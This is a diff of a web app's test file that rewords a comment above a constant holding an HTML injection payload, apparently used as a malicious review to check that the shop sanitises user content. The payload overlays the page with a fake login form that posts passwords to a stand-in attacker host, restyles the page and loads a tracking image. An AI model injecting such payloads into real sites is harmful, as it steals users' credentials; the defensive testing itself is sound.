@@ -3,7 +3,7 @@ import { OPEN_STREET_MAP_ORIGIN } from '@tours/contract/constants';
 import { DEMO } from '../support/demo-data';
 import { expect, test } from '../support/fixtures';
 
-/** The review of issue 11: covers the page, restyles the shop, posts the password away, loads a tracker. */
+/** A review written to take over the page: covers the page, restyles the shop, posts the password away, loads a tracker. */
 const TAKEOVER =
   '<div style="position:fixed;inset:0;background:#fff;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';
 
